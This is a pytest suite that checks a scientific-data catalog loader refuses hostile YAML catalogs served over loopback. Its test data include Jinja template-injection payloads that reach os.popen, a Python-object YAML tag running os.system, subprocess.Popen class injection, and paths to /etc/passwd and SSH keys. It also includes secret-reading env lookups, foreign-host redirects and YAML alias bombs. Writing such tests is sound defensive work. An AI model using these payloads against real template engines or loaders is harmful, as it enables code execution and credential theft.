"""Hostile catalogs served over loopback HTTP, opened untrusted: none runs code, leaks a secret or reaches a host.

Each case is a catalog (with its nested files) written below the root of the "own" loopback server. A
second listener stands for a foreign host. The secret is in the environment, the marker file is what a
successful exploit creates, and a module on ``sys.path`` creates it when imported. After opening the
catalog and touching every entry (instantiate, ``discover()``, nested catalogs walked): no marker, the
foreign listener saw no request, no request path and no error message holds the secret, and the cases
marked refused raised :class:`UnsafeCatalogError`.
"""

from __future__ import annotations

import dataclasses
import textwrap
import uuid
from pathlib import Path
from typing import Any

import pytest

import perc_platform as pp
from perc_platform.catalogs import UnsafeCatalogError
from perc_platform.testing import LoopbackServer, write_stack, write_star

G = "cycler.__init__.__globals__"
RUN = ".os.popen('touch MARKER').read()"
TEMPLATE_TRICKS = {
    "cycler": f"{{{{ {G}{RUN} }}}}",
    "joiner": f"{{{{ joiner.__init__.__globals__{RUN} }}}}",
    "namespace": f"{{{{ namespace.__init__.__globals__{RUN} }}}}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('touch MARKER').read() }}",
    "range_subclasses": "{{ range.__class__.__mro__[1].__subclasses__() }}",
    "dict_class": "{{ dict(a=1).__class__.__mro__ }}",
    "self_globals": "{{ self.__init__.__globals__ }}",
    "item_globals": "{{ cycler.__init__['__globals__']['os'].popen('touch MARKER').read() }}",
    "attr_filter": "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].popen('touch MARKER').read() }}",
    "map_filter": "{{ ['x']|map('upper')|list }}",
    "format_filter": "{{ '%s://%s/s.mrcs'|format('http', 'FOREIGN') }}",
    "join_filter": "{{ ['http:/', '/FOREIGN/s.mrcs']|join }}",
    "reverse_filter": "{{ 'scrm.s/NGIEROF//:ptth'|reverse }}",
    "tilde_url": "{{ 'http:' ~ '//' ~ 'FOREIGN' ~ '/s.mrcs' }}",
    "set_statement": "{% set u = 'http://FOREIGN/s.mrcs' %}{{ u }}",
    "for_statement": "{% for i in range(1) %}http://FOREIGN/s.mrcs{% endfor %}",
    "comment": "{# hidden #}http://OWN/s.mrcs",
    "env": "http://OWN/{{ env('PERC_TEST_SECRET') }}.mrcs",
    "client_env": "http://OWN/{{ client_env('AWS_SECRET_ACCESS_KEY') }}.mrcs",
    "shell": "{{ shell('touch MARKER') }}",
    "client_shell": "{{ client_shell('touch MARKER') }}",
    "whitespace_control": "{{- urlpath -}}",
    "param_filter": "{{ urlpath|lower }}",
    "param_attribute": "{{ urlpath.__class__.__mro__ }}",
    "param_item": "{{ urlpath['__class__'] }}",
    "undeclared": "{{ secret_name }}",
    "catalog_dir_tilde": "{{ CATALOG_DIR ~ '/s.mrcs' }}",
    "catalog_dir_attr": "{{ CATALOG_DIR.__class__ }}",
    "conditional": "{{ 'http://FOREIGN/s.mrcs' if true }}",
    "triple_brace": "{{{ urlpath }}}",
}
TEMPLATE_ENTRY = """
sources:
  trick:
    driver: mrc_stack
    parameters:
      urlpath: {description: stack, type: str, default: "http://OWN/s.mrcs"}
    args:
      urlpath: "TRICK"
"""


@dataclasses.dataclass(frozen=True)
class Case:
    """A catalog (``cat.yaml``), the files beside it, and whether it must be refused."""

    text: str
    files: dict[str, str] = dataclasses.field(default_factory=dict)
    foreign_files: dict[str, str] = dataclasses.field(default_factory=dict)
    path: str = "cat.yaml"
    refused: bool = True
    redirect: dict[str, str] = dataclasses.field(default_factory=dict)  # own path -> "FOREIGN/..." or "OWN/..."
    yaml_level: bool = False  # refused while parsing: trusted=True is no remedy, so the message does not offer it


def _source(args: str, extra: str = "", driver: str = "mrc_stack") -> str:
    return f"sources:\n  e:\n    driver: {driver}\n{extra}    args:\n{textwrap.indent(args, '      ')}\n"


CLEAN_INNER = _source('urlpath: "http://OWN/s.mrcs"\n')
BOMB = "".join(f'{c}: &{c} [{",".join([f"*{p}"] * 9)}]\n'
               for p, c in zip("abcdefgh", "bcdefghi", strict=True))
BOMB = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + BOMB  # 9**9 strings from a few hundred bytes
BOMB = "metadata:\n  " + BOMB.replace("\n", "\n  ").rstrip() + "\n  all: *i\n" + CLEAN_INNER

CASES: dict[str, Case] = {f"template_{k}": Case(TEMPLATE_ENTRY.replace("TRICK", v.replace('"', '\\"')))
                          for k, v in TEMPLATE_TRICKS.items()}
CASES |= {
    "template_in_metadata": Case(_source('urlpath: "http://OWN/s.mrcs"\n',
                                         f'    metadata:\n      note: "{TEMPLATE_TRICKS["cycler"]}"\n')),
    "template_in_list_arg": Case(_source(f'urlpath: ["{TEMPLATE_TRICKS["cycler"]}"]\n')),
    "template_in_default": Case(TEMPLATE_ENTRY.replace("http://OWN/s.mrcs", TEMPLATE_TRICKS["cycler"])
                                .replace("TRICK", "{{ urlpath }}")),
    "default_shell": Case(TEMPLATE_ENTRY.replace('"http://OWN/s.mrcs"', '"shell(touch MARKER)"')
                          .replace("TRICK", "{{ urlpath }}")),
    "default_env": Case(TEMPLATE_ENTRY.replace('"http://OWN/s.mrcs"', '"env(PERC_TEST_SECRET)"')
                        .replace("TRICK", "http://OWN/{{ urlpath }}.mrcs")),
    "default_client_env": Case(TEMPLATE_ENTRY.replace('"http://OWN/s.mrcs"', '"client_env(AWS_SECRET_ACCESS_KEY)"')
                               .replace("TRICK", "http://OWN/{{ urlpath }}.mrcs")),
    "shared_parameter_shell": Case("metadata:\n  parameters:\n    p: {description: x, type: str, default: "
                                   '"shell(touch MARKER)"}\n' + _source('urlpath: "{{ p }}"\n')),
    "defaults_build_url": Case(_source('urlpath: "{{ a }}{{ b }}"\n',
                                       '    parameters:\n      a: {description: x, type: str, default: "http:"}\n'
                                       '      b: {description: x, type: str, default: "//FOREIGN/s.mrcs"}\n')),
    "default_foreign_url": Case(TEMPLATE_ENTRY.replace("OWN", "FOREIGN").replace("TRICK", "{{ urlpath }}")),
    "parameter_named_catalog_dir": Case(_source('urlpath: "{{ CATALOG_DIR }}/s.mrcs"\n',
                                                "    parameters:\n      CATALOG_DIR: {description: x, type: str, "
                                                'default: "http://FOREIGN"}\n')),
    "cls_popen": Case("sources:\n  e:\n    driver: mrc_stack\n    cls: subprocess.Popen\n"
                      "    args: [[touch, MARKER]]\n"),
    "cls_only": Case("sources:\n  e:\n    cls: subprocess.Popen\n    args: [[touch, MARKER]]\n"),
    "plugins_module": Case("plugins:\n  source:\n    - module: EVILMOD\n" + CLEAN_INNER),
    "driver_dotted_class": Case(_source("args: [[touch, MARKER]]\n", driver="subprocess.Popen")),
    "driver_evil_module": Case(_source("x: 1\n", driver="EVILMOD.Source")),
    "driver_list": Case(_source('urlpath: "http://OWN/s.mrcs"\n', driver="[mrc_stack, EVILMOD.Source]")),
    "driver_dict": Case(_source('urlpath: "http://OWN/s.mrcs"\n', driver="{a: {class: EVILMOD.Source}}")),
    "driver_yaml_files_cat": Case(_source('path: "http://OWN/*.yaml"\n', driver="yaml_files_cat")),
    "getshell_arg": Case(_source('entry: EMPIAR-10025\ngetshell: true\n', driver="empiar")),
    "storage_options": Case(_source('urlpath: "http://OWN/s.mrcs"\nstorage_options: {client_kwargs: '
                                    '{proxy: "http://FOREIGN"}}\n')),
    "remote_key": Case(_source('urlpath: "http://OWN/s.mrcs"\n', "    remote: true\n")),
    "version_2": Case("version: 2\n" + CLEAN_INNER),
    "python_tag": Case("sources: !!python/object/apply:os.system ['touch MARKER']\n", yaml_level=True),
    "foreign_url": Case(_source('urlpath: "http://FOREIGN/s.mrcs"\n')),
    "foreign_url_upper_scheme": Case(_source('urlpath: "HTTP://FOREIGN/s.mrcs"\n')),
    "foreign_userinfo": Case(_source('urlpath: "http://OWN@FOREIGN/s.mrcs"\n')),
    "foreign_chained": Case(_source('urlpath: "simplecache::http://FOREIGN/s.mrcs"\n')),
    "foreign_in_star_arg": Case(_source('urlpath: "http://OWN/s.mrcs"\nstar: "1@http://FOREIGN/p.star"\n')),
    "foreign_single_slash": Case(_source('urlpath: "http:/FOREIGN/s.mrcs"\n')),
    "file_url": Case(_source('urlpath: "file:///etc/passwd"\n')),
    "absolute_local_path": Case(_source('urlpath: "/etc/passwd"\n')),
    "home_path": Case(_source('urlpath: "~/.ssh/id_rsa"\n')),
    "nested_foreign": Case(_source('path: "http://FOREIGN/inner.yaml"\n', driver="yaml_file_cat"),
                           foreign_files={"inner.yaml": CLEAN_INNER}),
    "nested_hostile": Case(_source('path: "{{ CATALOG_DIR }}/inner.yaml"\n', driver="yaml_file_cat"),
                           files={"inner.yaml": TEMPLATE_ENTRY.replace("TRICK", TEMPLATE_TRICKS["cycler"])}),
    "nested_twice_hostile": Case(_source('path: "{{ CATALOG_DIR }}/mid.yaml"\n', driver="yaml_file_cat"),
                                 files={"mid.yaml": _source('path: "{{ CATALOG_DIR }}/inner.yaml"\n',
                                                            driver="yaml_file_cat"),
                                        "inner.yaml": _source('urlpath: "http://FOREIGN/s.mrcs"\n')}),
    "nested_rendered_path": Case(_source('path: "{{ CATALOG_DIR }}/{{ \'inner\' }}.yaml"\n', driver="yaml_file_cat"),
                                 files={"inner.yaml": CLEAN_INNER}),
    "nested_parameter_path": Case(_source('path: "{{ p }}"\n', "    parameters:\n      p: {description: x, "
                                          'type: str, default: "http://FOREIGN/inner.yaml"}\n',
                                          driver="yaml_file_cat"), foreign_files={"inner.yaml": CLEAN_INNER}),
    "nested_file_url": Case(_source('path: "file:///etc/passwd"\n', driver="yaml_file_cat")),
    "nested_relative_local": Case(_source('path: "inner.yaml"\n', driver="yaml_file_cat"),
                                  files={"inner.yaml": CLEAN_INNER}),
    "nested_getshell": Case(_source('path: "{{ CATALOG_DIR }}/inner.yaml"\ngetshell: true\n',
                                    driver="yaml_file_cat"), files={"inner.yaml": CLEAN_INNER}),
    "nested_class_driver_text": Case(_source("text: \"sources: {}\"\n",
                                             driver="intake.catalog.local.YAMLFileCatalog")),
    "nested_cycle": Case(_source('path: "{{ CATALOG_DIR }}/cat.yaml"\n', driver="yaml_file_cat")),
    "nested_redirect_foreign": Case(_source('path: "{{ CATALOG_DIR }}/hop.yaml"\n', driver="yaml_file_cat"),
                                    redirect={"/hop.yaml": "FOREIGN/inner.yaml"},
                                    foreign_files={"inner.yaml": CLEAN_INNER}),
    "redirect_foreign": Case(CLEAN_INNER, path="hop.yaml", redirect={"/hop.yaml": "FOREIGN/inner.yaml"},
                             foreign_files={"inner.yaml": CLEAN_INNER}),
    "alias_bomb": Case(BOMB, yaml_level=True),
    "deep_flow_nesting": Case("sources: " + "[" * 50_000 + "]" * 50_000 + "\n", yaml_level=True),
    "deep_block_nesting": Case("sources:\n" + "".join(" " * i + "a:\n" for i in range(1, 200)) + " " * 200 + "b\n",
                               yaml_level=True),
    "recursive_alias": Case("sources: &s {e: {driver: mrc_stack, args: {urlpath: *s}}}\n", yaml_level=True),
    "duplicate_keys": Case(CLEAN_INNER + "sources:\n  e:\n    driver: mrc_stack\n    args: {urlpath: "
                           '"http://FOREIGN/s.mrcs"}\n', yaml_level=True),
    "oversized": Case(CLEAN_INNER + "# " + "x" * (1 << 20) + "\n", yaml_level=True),
    "binary_tag": Case(_source("urlpath: !!binary aGVsbG8=\n"), yaml_level=True),
    "not_a_catalog": Case("- just\n- a list\n"),
    "harmless_braces_in_literal": Case(_source('urlpath: "http://OWN/s.mrcs"\n',
                                               "    description: 'no templates: { single } braces'\n"),
                                       refused=False),
}
STAR_CASES = {  # reads that a STAR file sends elsewhere: enforced where bytes are read (storage policy)
    "star_only": Case(_source('star: "http://OWN/foreign.star"\n'), refused=False),
    "star_beside_stack": Case(_source('urlpath: "http://OWN/s.mrcs"\nstar: "http://OWN/foreign.star"\n'),
                              refused=False),
}


@dataclasses.dataclass
class Arena:
    own: LoopbackServer
    foreign: LoopbackServer
    root: Path
    foreign_root: Path
    marker: Path
    secret: str
    module: str

    def fill(self, text: str) -> str:
        foreign = self.foreign.url.split("://")[1]
        for token, value in (("NGIEROF", foreign[::-1]), ("FOREIGN", foreign), ("OWN", self.own.url.split("://")[1]),
                             ("MARKER", str(self.marker)), ("EVILMOD", self.module)):
            text = text.replace(token, value)
        return text


@pytest.fixture
def arena(tmp_path: Path, server_factory: Any, monkeypatch: pytest.MonkeyPatch) -> Arena:
    root, foreign_root, modules = tmp_path / "own", tmp_path / "foreign", tmp_path / "modules"
    for folder in (root, foreign_root, modules):
        folder.mkdir()
    marker = tmp_path / "pwned"
    secret = f"s3cret-{uuid.uuid4().hex}"
    monkeypatch.setenv("PERC_TEST_SECRET", secret)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    module = f"perc_evil_{uuid.uuid4().hex}"
    (modules / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').close()\nSource = None\n")
    monkeypatch.syspath_prepend(str(modules))
    for folder in (root, foreign_root):
        write_stack(folder / "s.mrcs", 3, (8, 8))
    return Arena(server_factory(root), server_factory(foreign_root), root, foreign_root, marker, secret, module)


def _touch_everything(cat: Any, errors: list[BaseException], depth: int = 0) -> None:
    for name in list(cat):
        try:
            source = cat[name]
            if getattr(source, "container", None) == "catalog":
                if depth < 3:
                    _touch_everything(source, errors, depth + 1)
            else:
                source.discover()
        except Exception as exc:
            errors.append(exc)


def _attack(arena: Arena, case: Case) -> list[BaseException]:
    (arena.root / "cat.yaml").write_text(arena.fill(case.text))
    for name, text in case.files.items():
        (arena.root / name).write_text(arena.fill(text))
    for name, text in case.foreign_files.items():
        (arena.foreign_root / name).write_text(arena.fill(text))
    for path, target in case.redirect.items():
        arena.own.add_fault(path, status=302, headers={"Location": f"http://{arena.fill(target)}"}, times=None)
    errors: list[BaseException] = []
    try:
        _touch_everything(pp.open_catalog(f"{arena.own.url}/{case.path}"), errors)
    except Exception as exc:
        errors.append(exc)
    assert not arena.marker.exists(), "the catalog ran code"
    assert arena.foreign.requests == [], f"the foreign host was reached: {arena.foreign.requests}"
    for record in arena.own.requests:
        assert arena.secret not in record.path
    for exc in errors:
        assert arena.secret not in f"{exc} {exc!r}"
    return errors


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_catalog_is_harmless(arena: Arena, name: str) -> None:
    case = CASES[name]
    errors = _attack(arena, case)
    if case.refused:
        unsafe = [e for e in errors if isinstance(e, UnsafeCatalogError)]
        assert unsafe, f"not refused; errors: {errors!r}"
        assert case.yaml_level or "trusted=True" in str(unsafe[0]), unsafe[0]


@pytest.mark.parametrize("name", list(STAR_CASES))
def test_star_referenced_hosts_are_not_reached(arena: Arena, name: str) -> None:
    write_stack(arena.foreign_root / "other.mrcs", 3, (8, 8))
    write_star(arena.root / "foreign.star", f"{arena.foreign.url}/other.mrcs", 3)
    _attack(arena, STAR_CASES[name])


def test_the_suite_is_large_enough() -> None:
    assert len(CASES) + len(STAR_CASES) >= 50
    assert sum(c.refused for c in CASES.values()) >= 50


@pytest.mark.parametrize("field", ["name", "directory"])
def test_hostile_empiar_answer_is_not_rendered(tmp_path: Path, field: str) -> None:
    """An archive's JSON reaches the entries' metadata, which intake would render as a Jinja template."""
    import json

    from perc_platform.testing.empiar import empiar_archive, imagesets_from_tree

    marker = tmp_path / "pwned"
    write_stack(tmp_path / "10001" / "data" / "parts" / "a.mrcs", 3, (8, 8))
    sets = imagesets_from_tree(tmp_path / "10001")
    sets[0][field] = TEMPLATE_TRICKS["cycler"].replace("MARKER", str(marker))
    (tmp_path / "10001" / "entry.json").write_text(json.dumps({"EMPIAR-10001": {
        "title": "t", "imagesets": sets, "cross_references": []}}))
    with empiar_archive(tmp_path):
        entry = pp.open_catalog(pp.catalogs.catalog_path()).empiar(entry="EMPIAR-10001")
        sources = [entry[key] for key in entry]
    assert sources and not marker.exists()
    assert sources[0].metadata[field] == sets[0][field]  # kept as text
